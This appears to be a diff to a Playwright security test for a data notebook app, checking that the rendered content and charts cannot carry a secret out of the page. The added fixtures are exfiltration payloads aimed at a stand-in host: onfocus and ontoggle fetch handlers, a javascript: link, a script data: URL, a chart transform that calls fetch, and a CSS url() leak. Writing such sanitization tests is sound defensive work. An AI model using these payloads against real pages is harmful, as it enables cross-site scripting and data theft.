@@ -58,6 +58,8 @@ test("no SQL, text, chart or worker carries data out of the page", async ({ page
 <a id="way" href="${there}/${SECRET}" ping="${there}/${SECRET}">a link</a>
 <link rel="prefetch" href="${there}/${SECRET}"><object data="${there}/${SECRET}"></object>
 <img src=x onerror="fetch('${there}/${SECRET}')"> {rows.link}
+<form action="${there}/${SECRET}" name="documents"><input name="cookie" autofocus onfocus="fetch('${there}/${SECRET}')"><button formaction="${there}/${SECRET}">go</button></form>
+[run](javascript:document.title='${SECRET}') [data](data:text/html,<script>1</script>) <details ontoggle="fetch('${there}/${SECRET}')" open>x</details>
 `;
   await dropNotebook(
     page,
@@ -66,10 +68,27 @@ test("no SQL, text, chart or worker carries data out of the page", async ({ page
       chart("image", `- image: { src: link }`),
       chart("href", `- dot: { x: customer_id, y: customer_id, href: link }`),
       chart("title", `- text: { x: customer_id, text: link, title: "<img src=${there}>" }`),
+      chart("code", `- dot: { x: customer_id, y: { transform: "() => fetch('${there}')" } }`),
+      chart("style", `- text: { x: customer_id, text: link, fill: "url(${there}/${SECRET})" }`),
     ].join("\n")}`,
   );
   await expect(page.getByRole("heading", { name: "Leak" })).toBeVisible();
   await expect(page.getByText("could not be computed")).toHaveCount(queries.length);
+  const hostileCell = page.locator("#cell-hostile .prose");
+  await expect(hostileCell.locator("details")).toHaveCount(1);
+  const forbidden = "img, script, style, iframe, svg, object, link, form, input, button";
+  await expect(hostileCell.locator(forbidden)).toHaveCount(0);
+  await expect(hostileCell.locator("[style], [id], [name], [ping], [ontoggle]")).toHaveCount(0);
+  const ways = await hostileCell
+    .locator("a[href]")
+    .evaluateAll((found) => found.map((way) => way.getAttribute("href")));
+  expect(ways.filter((way) => !/^https?:/.test(way ?? ""))).toEqual([]);
+  for (const id of ["image", "href", "title", "code", "style"]) {
+    await expect(page.locator(`#cell-${id} svg[role=img]`)).toHaveCount(0);
+    await expect(page.locator(`#cell-${id} [role=alert]`)).toHaveCount(1);
+  }
+  expect(page.context().pages()).toHaveLength(1);
+  expect(await page.title()).not.toContain(SECRET);
 
   const workers = page.workers();
   expect(workers.length).toBeGreaterThan(0);
